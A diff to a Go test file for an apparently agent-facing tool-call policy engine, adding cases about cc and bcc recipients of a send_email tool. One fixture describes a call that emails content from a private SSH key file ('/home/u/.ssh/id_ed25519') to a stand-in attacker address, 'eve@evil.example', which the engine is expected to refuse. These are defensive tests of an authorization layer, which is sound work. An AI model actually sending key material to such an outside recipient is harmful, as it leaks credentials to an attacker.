@@ -51,6 +51,24 @@ func TestSurfaceFields(t *testing.T) {
 		{"list: a nested value in the list is ambiguous",
 			traced(t, "send_email", `{"to":[{"addr":"bob@example.com"}]}`),
 			deny, grants.ReasonTargetAmbiguous, "", ""},
+		{"list: cc and bcc recipients are targets of the same set",
+			traced(t, "send_email", `{"to":"bob@example.com","cc":["carol@example.com"],"bcc":"dan@example.com"}`,
+				origin("/to", true, whole(user("s1"))), origin("/cc/0", true, whole(user("s1"))), origin("/bcc", true, whole(user("s1")))),
+			permit, grants.ReasonNone, `list:["email:bob@example.com","email:carol@example.com","email:dan@example.com"]`, "allow:mail-inside"},
+		{"list: a cc outside the domains makes the call cross",
+			traced(t, "send_email", `{"to":"bob@example.com","cc":["eve@evil.example"]}`,
+				origin("/to", true, whole(user("s1"))), origin("/cc/0", true, whole(user("s1")))),
+			approval, grants.ReasonBoundaryCrossing, "", "boundary:trust_domain"},
+		{"list: a denied bcc denies the call",
+			traced(t, "send_email", `{"to":"bob@example.com","bcc":"x@blocked.example"}`, origin("/to", true, whole(user("s1")))),
+			deny, grants.ReasonDeniedByPolicy, "", "deny:no-blocked"},
+		{"list: secret content leaving through a cc outside the domains is refused",
+			traced(t, "send_email", `{"to":"bob@example.com","cc":"eve@evil.example","body":"-----BEGIN KEY-----"}`,
+				origin("/to", true, whole(user("s1"))), origin("/cc", true, whole(user("s1"))),
+				origin("/body", true, fact(p, "s9", authority.ChannelFileRead, "/home/u/.ssh/id_ed25519", ""))),
+			deny, grants.ReasonProtectedTransfer, "", "provenance:protected"},
+		{"list: cc without to is a missing target",
+			traced(t, "send_email", `{"cc":"bob@example.com"}`), deny, grants.ReasonInvalidRequest, "", ""},
 		{"list: a single string still works",
 			traced(t, "send_email", `{"to":"bob@example.com"}`, origin("/to", true, whole(user("s1")))),
 			permit, grants.ReasonNone, "email:bob@example.com", ""},
@@ -190,6 +208,10 @@ func TestListTargetDrift(t *testing.T) {
 	if !ok1 || !ok2 || ta != tb || ta != `list:["email:bob@example.com","email:carol@example.com"]` {
 		t.Errorf("targets %q (%v) and %q (%v)", ta, ok1, tb, ok2)
 	}
+	c := req(t, "w1", "coordinator", "send_email", `{"to":"carol@example.com","cc":["bob@example.com"]}`).Args
+	if tc, ok := p.TargetOf("w1", "coordinator", "send_email", c, "", ""); !ok || tc != ta {
+		t.Errorf("to and cc: %q (%v), want %q", tc, ok, ta)
+	}
 }
 
 // TestSurfaceFieldsInvalid: each added field refuses what it cannot
@@ -200,6 +222,8 @@ func TestSurfaceFieldsInvalid(t *testing.T) {
 	cases := []struct{ surfaces, extra, field string }{
 		{`{"id":"m","tools":["m"],"operation":"send","consequence":"outbound_send","target":{"field":"","canon":"email","list":true}}`, "", "surfaces[0].target"},
 		{`{"id":"m","tools":["m"],"operation":"x","consequence":"arbitrary_execution","target":{"field":"c","canon":"shell","list":true}}`, "", "surfaces[0].target.list"},
+		{`{"id":"m","tools":["m"],"operation":"send","consequence":"outbound_send","target":{"field":"to","canon":"email","also":["cc"]}}`, "", "surfaces[0].target.also"},
+		{`{"id":"m","tools":["m"],"operation":"send","consequence":"outbound_send","target":{"field":"to","canon":"email","list":true,"also":["cc","/to"]}}`, "", "surfaces[0].target.also[1]"},
 		{sh + `,{"id":"b","tools":["b"],"operation":"fetch","consequence":"remote_query","egress_domains":["*.bank.example"]}`, "", "surfaces[1].egress_domains[0]"},
 		{sh + `,{"id":"b","tools":["b"],"operation":"fetch","consequence":"remote_query","recipient_domains":["Bank.example"]}`, "", "surfaces[1].recipient_domains[0]"},
 		{sh + `,{"id":"r","tools":["r"],"operation":"read","consequence":"local_read","memory":true}`, "", "surfaces[1].memory"},
